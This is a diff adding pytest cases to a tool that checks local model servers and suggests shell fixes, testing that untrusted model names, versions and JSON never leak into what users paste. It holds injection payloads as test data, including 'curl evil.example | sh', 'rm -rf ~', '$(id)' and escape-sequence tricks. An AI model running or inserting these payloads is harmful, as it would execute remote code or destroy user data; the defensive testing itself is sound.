@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import time
 from contextlib import contextmanager
 from pathlib import Path
@@ -285,6 +286,90 @@ def test_nonsense_is_no_list_of_models(body: bytes) -> None:
         assert not probes.ollama_models(page)
         assert probes.llama_slots(url) is None
         assert probes.ollama_context(url, "m") == (None, None, False)
+
+
+SHELL = [
+    "$(touch /tmp/owned)",
+    "m; curl evil.example | sh",
+    "`id`",
+    "m && rm -rf ~",
+    "m'\"",
+    "m --allow-remote-workers",
+    "m\nfix: rm -rf ~",
+    "m\x1b[2J",
+    "m\u202esh",
+    "m" * 101,
+]
+
+
+@pytest.mark.parametrize("name", SHELL)
+@pytest.mark.parametrize("more", [(), ("another",)])
+@pytest.mark.parametrize("provider", ["openai", "ollama"])
+def test_nothing_of_a_servers_is_in_what_to_type(
+    script: str, provider: str, more: tuple[str, ...], name: str
+) -> None:
+    """People paste a fix into a shell: a name is quoted there only if it is a plain one."""
+    with LoopbackServer(models=(name, *more)) as server:
+        url = server.openai_url if provider == "openai" else server.url
+        worker = f"{provider}:other@{url}"
+        report = examine(Settings.load({"planner": script, "worker": worker}))
+    for check in report.checks:
+        assert name not in (check.fix or "")
+        assert "\n" not in check.detail
+        assert "\x1b" not in check.detail
+        if more and check.name == "worker":
+            assert more[0] in (check.fix or "")
+
+
+def test_a_version_that_is_no_name_is_left_out(script: str) -> None:
+    """Ollama states its version as any JSON it likes."""
+    body = b'{"version": "1 $(id)", "models": [{"name": "w"}]}'
+    with refusing(200, body) as (url, _):
+        found = checks(planner=script, worker=f"ollama:w@{url}")["worker"]
+    assert "$(id)" not in found.detail
+
+
+def test_a_million_names_are_not_compared(script: str) -> None:
+    """A list of names is read up to 10,000, in little time."""
+    entries = [{"id": f"model-number-{number}"} for number in range(150_000)]
+    with refusing(200, json.dumps({"data": entries}).encode()) as (url, _):
+        assert len(probes.served_models(probes.fetch(url)) or []) == 10_000
+        started_s = time.monotonic()
+        found = checks(planner=script, worker=f"openai:w@{url}")["worker"]
+    assert found.status == "problem"
+    assert time.monotonic() - started_s < 30
+
+
+@pytest.mark.parametrize("lie", [10**18, 10**30, -1, 0, 1, True, 1e18, "9", None])
+def test_an_impossible_context_is_unknown(lie: Any) -> None:
+    """A server's context is between 128 and 100 million tokens, its slots are at most 1,024."""
+    settings = {"n_ctx": lie}
+    props = json.dumps(
+        {
+            "total_slots": 10**18,
+            "default_generation_settings": settings,
+            "model_info": {"a.context_length": lie},
+            "models": [{"name": "m", "context_length": lie}],
+        }
+    )
+    with refusing(200, props.encode()) as (url, _):
+        assert probes.llama_slots(url) is None
+        assert probes.ollama_context(url, "m") == (None, None, False)
+
+
+@pytest.mark.parametrize("body", [b"[" * 200_000, b'{"models": 1}', b'{"remote_host": {"a": 1}}'])
+def test_a_page_of_any_form_is_read(body: bytes) -> None:
+    """Brackets without an end, and numbers where lists belong, are no crash."""
+    with refusing(200, body) as (url, _):
+        assert probes.served_models(probes.fetch(url)) is None
+        assert probes.ollama_context(url, "m")[:2] == (None, None)
+        assert probes.llama_slots(url) is None
+
+
+def test_a_host_in_control_characters_is_still_another_machine() -> None:
+    """What a server calls the other machine is shown as one clean line, and never as none."""
+    assert probes.remote_of(b'{"remote_host": "\\u001b\\n"}') == "another machine"
+    assert probes.remote_of(b'{"remote_host": "a\\u001b[2Jb"}') == "a [2Jb"
 
 
 def test_a_server_that_hangs_is_not_waited_for() -> None:
